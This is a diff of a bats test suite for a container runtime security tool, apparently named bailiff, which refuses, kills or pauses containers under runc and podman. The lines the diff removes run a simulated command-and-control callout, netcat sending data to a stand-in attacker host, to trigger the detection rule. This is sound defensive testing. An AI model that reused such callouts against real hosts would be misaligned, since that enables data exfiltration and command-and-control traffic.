@@ -15,11 +15,9 @@ setup_file() {
 teardown_file() { story_close; }
 setup() { attacker_forget_packets; }
 teardown() {
-  podman_cli rm --all --force --time 0 >/dev/null || true
+  podman_remove_all
   story_quiet
 }
-
-runc_state() { [[ $(plain_runc state shop | jq -r .status) == "$1" ]]; }
 
 @test "refused, executed processes too, and beside runc's own program" {
   service "$REFUSE_POLICY"
@@ -41,34 +39,23 @@ runc_state() { [[ $(plain_runc state shop | jq -r .status) == "$1" ]]; }
 
 @test "killed, and nothing is left" {
   service "$KILL_POLICY"
-  run contained exploited sh -c \
-    "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
-  ((status == 137))
-  (($(attacker_packets) == 0))
-  event "$C2_RULE" '.bailiff.container.id == "exploited"
-    and .bailiff.outcome == "killed"'
-  nothing_left_of exploited
+  exploited_is_killed
 }
 
 @test "runc knows of a pause and of its end, and of a kill of what is paused" {
   service "$PAUSE_POLICY"
-  contained_detached shop sh -c \
-    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
+  violates shop
   event "$C2_RULE" '.bailiff.outcome == "paused"'
-  runc_state paused
+  runtime_state shop paused
   run bailiff_runc exec shop true
   says "paused"
   bailiff_runc pause shop
   run -0 bailiff_api resume shop
-  runc_state running
+  runtime_state shop running
   run -0 bailiff_api pause shop
-  runc_state paused
+  runtime_state shop paused
   run -0 bailiff_api kill shop
-  wait_until 10 "runc to know" runc_state stopped
-}
-
-podman_state() {
-  [[ $(podman_cli inspect --format '{{.State.Status}}' shop) == "$1" ]]
+  wait_until 10 "runc to know" runtime_state shop stopped
 }
 
 @test "podman knows of a pause and of its end" {
@@ -76,10 +63,9 @@ podman_state() {
   runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
   podman_run --runtime "$SVC/bailiff-runc" -- --detach --name shop \
     --pids-limit 0 --network "ns:$SCRATCH/netns/inside" \
-    registry.example/shop:1.4 sh -c \
-    "echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"
+    registry.example/shop:1.4 sh -c "$VIOLATION"
   event "$C2_RULE" '.bailiff.outcome == "paused"'
-  wait_until 10 "podman to know" podman_state paused
+  wait_until 10 "podman to know" podman_state shop paused
   run -0 bailiff_api resume shop
-  podman_state running
+  podman_state shop running
 }
